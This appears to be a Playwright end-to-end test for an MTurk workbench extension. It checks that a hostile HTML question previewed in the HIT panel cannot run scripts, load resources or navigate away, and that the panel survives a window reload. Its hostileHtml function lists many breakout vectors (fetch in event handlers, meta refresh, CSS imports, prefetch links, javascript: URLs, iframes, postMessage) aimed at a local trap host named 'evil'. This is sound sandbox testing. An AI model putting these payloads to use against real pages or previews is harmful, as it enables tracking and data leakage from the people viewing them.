/** The HIT panel in the real workbench: a hostile question is shown and gets nowhere; panel and documents outlive a reload. */
import assert from 'node:assert/strict';
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { FrameLocator } from 'playwright-core';
import { eventually } from './support/eventually.ts';
import { type LocalAtService, localAtService } from './support/localAtService.ts';
import { useWorkbench } from './support/suite.ts';

const namespace = 'http://mechanicalturk.amazonaws.com/AWSMechanicalTurkDataSchemas/2011-11-11/HTMLQuestion.xsd';

/** All the ways out that we know of, to one address. */
function hostileHtml(evil: string): string {
  return `<!DOCTYPE html><html><head><title>t</title>
<meta http-equiv="refresh" content="0;url=${evil}/refresh"><base href="${evil}/base/">
<link rel="stylesheet" href="${evil}/link.css"><link rel="prefetch" href="${evil}/prefetch"><link rel="preconnect" href="${evil}">
<link rel="dns-prefetch" href="${evil}"><link rel="icon" href="${evil}/icon">
<script>parent.postMessage({type:'command',name:'openLink',params:{url:'${evil}/post'}},'*');fetch('${evil}/script')</script>
<script src="${evil}/src.js"></script>
<style>.styled-away{display:none}@import url("${evil}/import.css");h1{color:rgb(255, 0, 0);background:url(${evil}/bg.png)}@font-face{font-family:x;src:url(${evil}/font)}h1{font-family:x}</style></head>
<body onload="fetch('${evil}/onload')" background="${evil}/body.png"><h1 onclick="fetch('${evil}/onclick')">Seen by workers</h1>
<img src="${evil}/img.png" srcset="${evil}/set.png 2x" onerror="fetch('${evil}/onerror')" alt="a chart">
<svg onload="fetch('${evil}/svg')"><image href="${evil}/svg.png"/><use href="${evil}/use.svg#x"/></svg><p class="styled-away">unstyled</p><math><mtext><img src="${evil}/math"></mtext></math>
<iframe src="${evil}/iframe"></iframe><iframe srcdoc="&lt;img src=${evil}/srcdoc&gt;"></iframe><object data="${evil}/object"></object><embed src="${evil}/embed">
<video src="${evil}/video" poster="${evil}/poster" autoplay></video><audio src="${evil}/audio" autoplay></audio><input type="image" src="${evil}/input.png">
<a href="${evil}/a" ping="${evil}/ping" target="_top">a link</a><a href="javascript:fetch('${evil}/js')">another</a>
<form action="${evil}/form"><input name="x" value="typed" autofocus onfocus="fetch('${evil}/focus')"><button formaction="${evil}/formaction">Send</button></form>
<div style="background:url(${evil}/style.png)" contenteditable>styled</div><div><template shadowrootmode="open"><img src="${evil}/shadow"></template></div>
<table background="${evil}/table"><tr><td background="${evil}/td">cell</td></tr></table><noscript><img src="${evil}/noscript"></noscript>
<details open ontoggle="fetch('${evil}/toggle')"><summary>more</summary></details><crowd-form answer-format="flatten-objects"><p>in a crowd form</p></crowd-form></body></html>`;
}

describe('the HIT panel', () => {
  const workbench = useWorkbench();
  const heard: string[] = [];
  let evil: string;
  let server: Server;
  let at: LocalAtService | undefined;

  before(async () => {
    server = createServer((request, response) => {
      heard.push(request.url ?? '');
      response.end();
    });
    server.on('connection', () => heard.push('a connection'));
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
    evil = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });

  after(() => {
    server.close();
    if (at) process.kill(at.local.pid);
  });

  const panel = (): FrameLocator => workbench().webview();
  const preview = (): FrameLocator => panel().locator('iframe.preview-frame').contentFrame();

  it('shows a hostile question as workers see it, and lets nothing of it run, load or lead away', async () => {
    await fetch(`${evil}/heard`);
    assert.ok(heard.includes('/heard'), 'the trap works');
    heard.length = 0;
    const asked: string[] = [];
    workbench().page.on('request', request => asked.push(request.url()));
    workbench().page.on('dialog', dialog => asked.push(`dialog ${dialog.message()}`));

    await workbench().openView('MTurk');
    await workbench().command('MTurk: Start Local');
    await workbench().statusBar('LOCAL $10,000.00').waitFor();
    at = localAtService(workbench());
    await at.client.call('CreateHIT', {
      Title: 'A hostile question',
      Description: 'Made to break out.',
      Reward: '0.10',
      AssignmentDurationInSeconds: 600,
      LifetimeInSeconds: 86_400,
      Question: `<HTMLQuestion xmlns="${namespace}"><HTMLContent><![CDATA[${hostileHtml(evil)}]]></HTMLContent><FrameHeight>420</FrameHeight></HTMLQuestion>`,
    });
    await workbench().choose(workbench().row('A hostile question', await workbench().view('HITs')), 'Open HIT');

    const heading = preview().getByRole('heading', { name: 'Seen by workers' });
    await heading.waitFor();
    // No script runs in the frame, not even a test's: what its styles hide tells that they count.
    assert.equal(await preview().getByText('unstyled').isVisible(), false);
    for (const text of ['in a crowd form', 'image: a chart', 'cell', 'a link'])
      await preview().getByText(text).first().waitFor();
    assert.equal(await preview().locator('input, button, select, textarea').locator(':enabled').count(), 0);
    await preview().getByText('a link').first().click();
    await preview().getByText('another').click();
    await heading.click();
    assert.ok(await heading.isVisible());
    await panel().getByRole('heading', { name: 'Timeline' }).waitFor();
    assert.deepEqual(heard, []);
    assert.deepEqual(
      asked.filter(each => each.includes(evil) || each.startsWith('dialog')),
      [],
    );
  });

  it('would hold the question back even if it came as it is', async () => {
    // Connections that are opened ahead of a request obey no policy: only what is not written at all can't ask for them.
    const raw = hostileHtml(evil).replace(/<link rel="(?:preconnect|dns-prefetch)"[^>]*>/g, '');
    const frame = panel().locator('iframe.preview-frame');
    await frame.evaluate((element, html) => {
      const target = element as unknown as {
        srcdoc: string;
        addEventListener: (name: string, run: () => void) => void;
      };
      return new Promise<void>(resolve => {
        target.addEventListener('load', () => resolve());
        target.srcdoc = html as string;
      });
    }, raw);
    const heading = preview().getByRole('heading', { name: 'Seen by workers' });
    await heading.click();
    await preview().getByRole('button', { name: 'Send' }).click();
    await preview().getByText('a link').first().click();
    await workbench().page.screenshot();
    assert.deepEqual(
      heard.filter(each => each.startsWith('/')),
      [],
    );
    heard.length = 0;
  });

  it('comes back after a reload, and so does a document', async () => {
    const row = workbench().row('A hostile question', await workbench().view('HITs'));
    await workbench().choose(row, 'Open As', 'Open as JSON');
    const lines = workbench().page.locator('.editor-instance .view-lines');
    await lines.getByText('HITTypeId').first().waitFor();
    await workbench().page.evaluate('globalThis.beforeReload = true');
    await workbench().command('Developer: Reload Window');
    await workbench().page.waitForFunction('!globalThis.beforeReload');
    await workbench().page.locator('.monaco-workbench .statusbar-item').first().waitFor();
    await eventually(async () => assert.match((await lines.textContent()) ?? '', /HITTypeId/));
    await workbench().tab('A hostile question').click();
    await preview().getByRole('heading', { name: 'Seen by workers' }).waitFor();
    assert.deepEqual(heard, []);
  });
});
